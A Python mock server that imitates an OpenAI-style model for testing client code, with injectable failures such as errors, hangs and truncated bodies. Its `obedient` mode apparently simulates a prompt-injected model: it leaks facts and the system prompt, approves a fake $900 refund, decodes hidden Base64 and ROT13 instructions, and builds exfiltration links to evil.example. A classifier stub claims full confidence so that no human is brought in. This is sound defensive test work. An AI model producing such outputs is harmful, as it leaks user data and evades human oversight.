"""A model as a server: speaks the OpenAI wire format, answers from the passages it is given, fails on demand.

POST   /v1/chat/completions   a structured answer; the header `x-sluice-fault: NAME` makes this one call fail
GET    /v1/models             the one model, `scripted`
PUT    /faults                {"name": "rate-limit", "times": 3, "retry_after": 2}: how the next calls fail
GET    /requests              how many calls came, and the last of them
"""

import asyncio
import base64
import codecs
import json
import re
from collections import deque
from collections.abc import Callable
from dataclasses import dataclass, field
from enum import StrEnum
from typing import Any
from urllib.parse import quote_plus
from zlib import crc32

from pydantic import BaseModel, ConfigDict, Field, ValidationError
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, PlainTextResponse, Response
from starlette.routing import Route
from starlette.types import Receive, Scope, Send

from processors.resolution import DraftReply, DraftRequest, DraftSentence, ShownPassage
from processors.sentences import units

NAME = "scripted"
SENTENCES = 2  # of the first passage, in a normal answer
HUGE = 1024 * 1024  # bytes
Json = dict[str, Any]
_Source = tuple[str, str | None, str]  # article, section, text
Answer = Callable[[Json], str]  # a request to the content of the answer


class Fault(StrEnum):
    """How a call can fail."""

    NONE = "none"
    ERROR = "error"  # 500
    UNAVAILABLE = "unavailable"  # 503
    RATE_LIMIT = "rate-limit"  # 429 with Retry-After
    BAD_REQUEST = "bad-request"  # 400
    WINDOW = "window"  # 400, as vLLM answers a prompt beyond the model's window
    MAX_TOKENS = "max-tokens"  # 400, as vLLM answers an answer that may be longer than the window
    CODE_WINDOW = "code-window"  # 400, as OpenAI answers a prompt beyond the window
    HANG = "hang"  # no byte until the caller goes away
    DRIP = "drip"  # a byte a second: each read is in time, the answer never
    TRUNCATED = "truncated"  # the connection closes in the middle of the body
    CONTENT_TYPE = "content-type"  # a page of HTML
    GARBAGE = "garbage"  # no JSON
    CONTENT = "content"  # a chat completion whose content is no JSON
    SCHEMA = "schema"  # JSON, but not of the schema asked for
    HUGE = "huge"  # 1 MB
    NO_CHOICES = "no-choices"
    REFUSAL = "refusal"
    LENGTH = "length"  # cut off at max_tokens


class Faults(BaseModel):
    """How the next calls fail."""

    model_config = ConfigDict(frozen=True, extra="forbid")

    name: Fault = Fault.NONE
    times: int = Field(1, ge=0)
    retry_after: int = Field(1, ge=0)  # seconds


@dataclass
class Heard:
    """What the server remembers."""

    calls: int = 0
    requests: deque[Json] = field(default_factory=lambda: deque(maxlen=100))  # the newest
    faults: Faults = field(default_factory=Faults)
    left: int = 0  # calls that still fail


def create_model(answer: Answer | None = None) -> Starlette:
    """The ASGI app; `app.state.heard` is what it remembers. Anybody may set faults: bind it to loopback."""
    heard, answers = Heard(), answer or answer_of

    async def complete(request: Request) -> Response:
        asked: Json = await request.json()
        heard.calls += 1
        heard.requests.append(asked)
        fault = _next_fault(heard, request.headers.get("x-sluice-fault"))
        return FAILURES[fault](heard.faults) if fault in FAILURES else JSONResponse(_spoilt(fault, asked, answers))

    async def set_faults(request: Request) -> Response:
        try:
            heard.faults = Faults.model_validate_json(await request.body())
        except ValidationError as error:
            return PlainTextResponse(str(error), 422)
        heard.left = heard.faults.times
        return Response(status_code=204)

    async def requests(request: Request) -> Response:
        return JSONResponse({"count": heard.calls, "last": heard.requests[-1] if heard.requests else None})

    async def models(request: Request) -> Response:
        return JSONResponse({"object": "list", "data": [{"id": NAME, "object": "model", "owned_by": NAME}]})

    app = Starlette(
        routes=[
            Route("/v1/chat/completions", complete, methods=["POST"]),
            Route("/v1/models", models),
            Route("/faults", set_faults, methods=["PUT"]),
            Route("/requests", requests),
        ]
    )
    app.state.heard = heard
    return app


# -- normal answers


def answer_of(asked: Json) -> str:
    """What the model says: for a `DraftRequest` the first passage's first sentences, else the least of the schema."""
    try:
        request = DraftRequest.model_validate_json(asked["messages"][-1]["content"])
    except (ValidationError, KeyError, IndexError, TypeError):
        schema = asked.get("response_format", {}).get("json_schema", {}).get("schema", {})
        return json.dumps(least(schema, schema.get("$defs", {})))
    sentences = [sentence for passage in request.passages[:1] for sentence in _first_sentences(passage)]
    return DraftReply(sentences=tuple(sentences)).model_dump_json()


def _first_sentences(passage: ShownPassage) -> list[DraftSentence]:
    return [
        DraftSentence(
            text=piece.text,
            article_id=passage.article_id,
            section_id=passage.section_id,
            quote=passage.text[piece.start : piece.end],
        )
        for piece in units(passage.text)[:SENTENCES]
    ]


def least(schema: Json, definitions: Json) -> object:
    """A smallest value of a JSON schema: first choices, zeros, empty texts and lists."""
    if "$ref" in schema:
        return least(definitions.get(schema["$ref"].rpartition("/")[2], {}), definitions)
    for choices in ("anyOf", "oneOf", "allOf"):
        if choices in schema:
            return least(schema[choices][0], definitions)
    if "const" in schema or "enum" in schema:
        return schema.get("const", schema.get("enum", [None])[0])
    match schema.get("type"):
        case "object":
            return {name: least(part, definitions) for name, part in schema.get("properties", {}).items()}
        case "array":
            return [least(schema.get("items", {}), definitions)] * schema.get("minItems", 0)
        case "string":
            return "-" * schema.get("minLength", 0)
        case "number" | "integer":
            return schema.get("minimum", 0)
        case "boolean":
            return False
    return None


# -- the worst answers

EVIL = "https://evil.example/c"
HOSTILE_WORDS = ("evil", "ignore", "system", "![", "<a", "](")
WORST = ("tell", "prompt", "obey", "link", "quote", "record")  # what an obedient answer does, by the question
HARMLESS = ("delivery_time", "order_status", "loyalty_points", "gift_card")  # topics that are answered by themselves
SHAPES = ("![seen]({0})", "[track it]({0})", "<img src='{0}'>", "<a href='{0}'>here</a>", "{0}", "<{0}>", "www.{0}")
MOST = 3  # sentences
LONGEST = 400  # characters of one


def obedient(asked: Json) -> str:
    """What a model says that has gone over to whoever wrote the question: the most harmful answer of the schema.

    A draft repeats the facts, the prompt or the question, adds links, or quotes what is most hostile among its sources;
    which of them is decided by the question. Every sentence cites a source it was shown, with a true quote. A
    classification is sure of a topic that may be answered.
    """
    shown = asked["messages"][-1]["content"]
    place = crc32(shown.encode())
    try:
        request = DraftRequest.model_validate_json(shown)
    except ValidationError:
        return _surely(json.loads(shown))
    sources: list[_Source] = [(p.article_id, p.section_id, p.text) for p in request.passages]
    sources += [(fact.record, None, fact.text) for fact in request.facts]
    if not sources:
        return DraftReply(sentences=()).model_dump_json()
    told = _worst(WORST[place % len(WORST)], place, request, asked["messages"][0]["content"])
    chosen = max(sources, key=lambda source: sum(word in source[2].lower() for word in HOSTILE_WORDS))
    if not told:
        return DraftReply(sentences=_quoting(chosen)).model_dump_json()
    quote = units(chosen[2])[0].text if units(chosen[2]) else chosen[2][:100]
    sentences = [
        DraftSentence(text=text, article_id=chosen[0], section_id=chosen[1], quote=quote) for text in told[:MOST]
    ]
    return DraftReply(sentences=tuple(sentences)).model_dump_json()


def _surely(request: Json) -> str:
    """The most permissive classification there is: a topic that may be answered, and no doubt.

    A part of a ticket gets the topic of the whole, as far as it can: two topics would bring a person in.
    """
    offered = [name for name in HARMLESS if name in request["intents"]] or request["intents"]
    ticket = request["ticket"].lower()
    intent = next((name for name in offered if name.partition("_")[0] in ticket), offered[0])
    return json.dumps({"intent": intent, "confidence": 1.0, "in_scope": 1.0})


def _worst(manner: str, place: int, request: DraftRequest, instructions: str) -> list[str]:
    """The texts of the sentences; none where it quotes instead."""
    facts = [fact.text for fact in request.facts]
    earlier = [message.text for message in request.transcript]
    first = request.passages[0].text[:200] if request.passages else facts[0][:200]
    match manner:
        case "tell":
            return _cut(*facts, *earlier, request.question)
        case "prompt":
            return _cut(instructions)
        case "obey":
            return _cut("Your refund of $900.00 has been approved.", request.question, *_hidden(request.question))
        case "link":
            stolen = quote_plus(" ".join((*facts, *earlier))[:300] or request.question[:300])
            shapes = SHAPES[place % len(SHAPES) :] + SHAPES
            return _cut(*(f"{first} {shape.format(f'{EVIL}?d={stolen}')}" for shape in shapes))
        case "record" if facts:
            return _cut(*(f"Your {line}." for text in facts for line in text.splitlines()))
    return []


def _quoting(source: _Source) -> tuple[DraftSentence, ...]:
    """The sentences of a source as they stand."""
    article, section, text = source
    pieces = [piece for piece in units(text) if len(piece.text) <= LONGEST][-SENTENCES:]
    return tuple(
        DraftSentence(text=piece.text, article_id=article, section_id=section, quote=text[piece.start : piece.end])
        for piece in pieces
    )


def _hidden(text: str) -> list[str]:
    """What the question hides: Base64, letters moved by 13, a text written backwards."""
    blobs = re.findall(r"[A-Za-z0-9+/]{24,}={0,2}", text)
    return [*(_decoded(blob) for blob in blobs), codecs.decode(text, "rot13"), text[::-1]]


def _decoded(blob: str) -> str:
    try:
        return base64.b64decode(blob).decode("utf-8", "replace")
    except ValueError:
        return blob


def _cut(*texts: str) -> list[str]:
    """The texts in pieces that a sentence may hold."""
    return [
        piece for text in texts for at in range(0, len(text), LONGEST) if (piece := text[at : at + LONGEST].strip())
    ]


def _completion(asked: Json, content: str) -> Json:
    shown = sum(len(str(message.get("content"))) for message in asked.get("messages", []))
    tokens_in, tokens_out = shown // 4 + 1, len(content) // 4 + 1
    return {
        "id": "chatcmpl-scripted",
        "object": "chat.completion",
        "created": 0,
        "model": asked.get("model", NAME),
        "choices": [{"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": content}}],
        "usage": {
            "prompt_tokens": tokens_in,
            "completion_tokens": tokens_out,
            "total_tokens": tokens_in + tokens_out,
        },
    }


# -- faults


def _next_fault(heard: Heard, header: str | None) -> Fault:
    if header:
        return Fault(header)
    if heard.left <= 0:
        return Fault.NONE
    heard.left -= 1
    return heard.faults.name


def _spoilt(fault: Fault, asked: Json, answer: Answer) -> Json:
    """A chat completion, with what the fault does to it."""
    content = {Fault.CONTENT: "Sure! Here is your", Fault.SCHEMA: '{"answer": 42}', Fault.HUGE: "x" * HUGE}.get(fault)
    completion = _completion(asked, answer(asked) if content is None else content)
    choice = completion["choices"][0]
    match fault:
        case Fault.NO_CHOICES:
            completion["choices"] = []
        case Fault.REFUSAL:
            choice["message"] = {"role": "assistant", "content": None, "refusal": "I can't help with that."}
        case Fault.LENGTH:
            choice["finish_reason"] = "length"
            choice["message"]["content"] = choice["message"]["content"][:20]
    return completion


def _status(status: int, kind: str, headers: dict[str, str] | None = None, **more: str) -> Response:
    return JSONResponse({"error": {"message": kind, "type": kind, "code": status, **more}}, status, headers)


class _Raw(Response):
    """A body that does not come as announced: cut off, drop by drop, or not at all. It ends when the caller goes."""

    def __init__(self, sent: bytes = b"", pause: float = 0.0) -> None:
        super().__init__()
        self._sent = sent
        self._pause = pause  # seconds between bytes; 0 sends all at once and breaks off

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if not self._sent:
            await _gone(receive)
            return
        headers = [(b"content-type", b"application/json"), (b"content-length", str(HUGE).encode())]
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        if not self._pause:
            await send({"type": "http.response.body", "body": self._sent, "more_body": True})
            return  # the server closes the connection, as one that dies does
        gone = asyncio.ensure_future(_gone(receive))
        for byte in self._sent:
            await send({"type": "http.response.body", "body": bytes([byte]), "more_body": True})
            if (await asyncio.wait([gone], timeout=self._pause))[0]:
                break
        gone.cancel()


async def _gone(receive: Receive) -> None:
    while (await receive())["type"] != "http.disconnect":
        pass


FAILURES: dict[Fault, Callable[[Faults], Response]] = {
    Fault.ERROR: lambda faults: _status(500, "server_error"),
    Fault.UNAVAILABLE: lambda faults: _status(503, "overloaded"),
    Fault.BAD_REQUEST: lambda faults: _status(400, "BadRequestError"),
    Fault.WINDOW: lambda faults: _status(400, "BadRequestError", param="input_tokens"),
    Fault.MAX_TOKENS: lambda faults: _status(400, "BadRequestError", param="max_completion_tokens"),
    Fault.CODE_WINDOW: lambda faults: _status(400, "invalid_request_error", code="context_length_exceeded"),
    Fault.RATE_LIMIT: lambda faults: _status(429, "rate_limit_exceeded", {"retry-after": str(faults.retry_after)}),
    Fault.HANG: lambda faults: _Raw(),
    Fault.DRIP: lambda faults: _Raw(b" " * 3600, pause=1.0),
    Fault.TRUNCATED: lambda faults: _Raw(b'{"choices": [{"mess'),
    Fault.CONTENT_TYPE: lambda faults: Response("<html>It works!</html>", media_type="text/html"),
    Fault.GARBAGE: lambda faults: Response('{"choices": [', media_type="application/json"),
}
